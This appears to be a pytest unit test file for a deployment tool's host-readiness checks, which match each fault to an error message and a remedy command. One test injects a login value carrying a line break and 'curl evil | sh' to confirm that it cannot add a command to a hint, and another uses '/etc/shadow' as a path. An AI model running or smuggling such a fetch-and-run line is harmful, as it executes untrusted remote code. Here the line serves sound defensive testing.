"""Whether a host can take a run: each thing that can be wrong, and its remedy."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from deployctl.compose import preconditions
from deployctl.compose.facts import HostFacts
from deployctl.errors import EXIT_UNREACHABLE, HostError
from deployctl.release.record import History
from deployctl.ssh.command import Completed
from tests.unit.build import HOST, SERVICE, configuration, container, facts


def error(found: HostFacts) -> HostError:
    with pytest.raises(HostError) as caught:
        preconditions.require_ready(found, SERVICE, HOST)
    assert caught.value.exit_status == EXIT_UNREACHABLE
    return caught.value


def test_a_host_in_good_order_gives_its_configuration() -> None:
    assert preconditions.require_ready(facts(container()), SERVICE, HOST) == configuration()


@pytest.mark.parametrize(
    ("found", "code", "says", "remedy"),
    [
        (facts(missing_tools=("flock", "setsid")), "tool-missing", "flock, setsid", "install"),
        (
            facts(paths=("missing", "ok", "ok")),
            "path-missing",
            "directory '/opt/infra'",
            "inventory",
        ),
        (
            facts(paths=("ok", "ok", "missing")),
            "path-missing",
            "compose file 'compose/web.yml'",
            "services.web",
        ),
        (
            facts(paths=("wrong-kind", "ok", "ok")),
            "path-wrong-kind",
            "is no directory",
            "inventory",
        ),
        (facts(paths=("ok", "unreadable", "ok")), "path-unreadable", "cannot be read", "web"),
        (facts(paths=("ok",)), "host-garbled", "did not answer", ""),
        (
            facts(containers=None, docker_problem="denied"),
            "docker-denied",
            "deploy may not use docker",
            "usermod -aG docker deploy",
        ),
        (facts(containers=None, docker_problem="missing"), "docker-down", "not running", "status"),
        (facts(containers=None, docker_problem="silent"), "docker-down", "not answer", "status"),
        (facts(containers=None, docker_problem="remote"), "docker-down", "DOCKER_HOST", "status"),
        (facts(containers=None, docker_problem="?"), "docker-down", "not answer", "status"),
        (
            facts(foreign_files=("/opt/infra/.deployctl/lock",)),
            "state-foreign",
            "files of another user",
            "chown -R deploy",
        ),
        (
            facts(state_access="not-writable"),
            "state-foreign",
            "cannot be written by deploy",
            "state_directory",
        ),
        (
            facts(foreign_files=("x",), state_access="not-writable", state_owner="kim"),
            "state-foreign",
            "/opt/infra/.deployctl on vps is kim's, and deploy may not write in it",
            "deploy as kim (user in [hosts.vps]), or on the host",
        ),
        (
            facts(foreign_files=("/opt/infra/.deployctl/a\nnot-there",)),
            "state-foreign",
            r"are in /opt/infra/.deployctl on vps: '/opt/infra/.deployctl/a\n",
            "chown -R deploy",
        ),
        (
            facts(state_access="not-there"),
            "state-foreign",
            "/opt/infra/.deployctl on vps is not there",
            "as root:\ninstall -d -o deploy -m 0700 /opt/infra/.deployctl",
        ),
        (
            facts(history=History(readable=False)),
            "history-unreadable",
            "/opt/infra/.deployctl/history.jsonl",
            "chown deploy",
        ),
        (
            facts(env_file_problems=("owner deploy /opt/infra/compose/.env",)),
            "env-file-foreign",
            "'/opt/infra/compose/.env' belongs to another user than deploy",
            "chown deploy /opt/infra/compose/.env",
        ),
        (
            facts(env_file_problems=("mode deploy /opt/infra/compose/.env",)),
            "env-file-foreign",
            "deploy may not read '/opt/infra/compose/.env'",
            "chmod u+r /opt/infra/compose/.env",
        ),
        (facts(killed_at_logout=True), "killed-at-logout", "KillUserProcesses", "enable-linger"),
        (
            facts(configuration=None, compose_missing=True),
            "compose-missing",
            "no Compose v2",
            "docker-compose-plugin",
        ),
        (
            facts(configuration=None, complaints=("yaml: line 3",)),
            "compose-invalid",
            "cannot resolve",
            "as deploy:\ncd /opt/infra && IMAGE_TAG=sha-0000000 docker compose -f",
        ),
    ],
)
def test_what_is_wrong_is_named_with_its_remedy(
    found: HostFacts, code: str, says: str, remedy: str
) -> None:
    raised = error(found)

    assert raised.code == code
    assert says in raised.message
    assert remedy in raised.hint


def test_what_compose_says_about_the_files_is_the_evidence() -> None:
    assert error(facts(configuration=None, complaints=("a", "b"))).details == ("a", "b")


def test_a_question_needs_less_than_a_change() -> None:
    only_readable = facts(foreign_files=("x",), configuration=None, killed_at_logout=True)

    preconditions.require_answers(only_readable, SERVICE, HOST)


@pytest.mark.parametrize(("sudo", "remedy"), [(True, "sudo -n"), (False, "run sh there")])
def test_a_script_that_did_not_run_shows_its_last_words(sudo: bool, remedy: str) -> None:
    words = "\n".join(f"line {n}" for n in range(9)).encode() + b"\xff"
    host = dataclasses.replace(HOST, sudo=sudo)

    failed = preconditions.script_failed(host, Completed(127, b"", words))

    assert "exit status 127" in failed.message
    assert remedy in failed.hint
    assert failed.details[0] == "line 4"


def test_a_path_of_the_hosts_own_is_evidence_and_in_no_command_for_root() -> None:
    found = error(facts(env_file_problems=("owner deploy /etc/shadow",)))

    assert "'/etc/shadow' belongs to another user" in found.message
    assert "shadow" not in found.hint
    assert "\n" not in found.hint


def test_a_command_for_root_names_the_login_of_the_inventory_and_not_the_hosts() -> None:
    found = facts(user="mallory", containers=None, docker_problem="denied")
    unnamed = dataclasses.replace(HOST, user=None)

    assert error(found).hint.endswith("\nusermod -aG docker deploy")
    with pytest.raises(HostError) as raised:
        preconditions.require_answers(found, SERVICE, unnamed)
    assert raised.value.hint.endswith("\nusermod -aG docker USER")


@pytest.mark.parametrize(
    "changes",
    [
        {"containers": None, "docker_problem": "denied"},
        {"state_access": "not-there"},
        {"history": History(readable=False)},
        {"killed_at_logout": True},
        {"configuration": None},
    ],
)
def test_a_login_with_a_line_break_adds_no_line_to_the_commands(changes: dict[str, Any]) -> None:
    hint = error(facts(user="deploy\ncurl evil | sh", **changes)).hint

    assert len(hint.splitlines()) == 2
    assert not hint.splitlines()[1].startswith("curl")
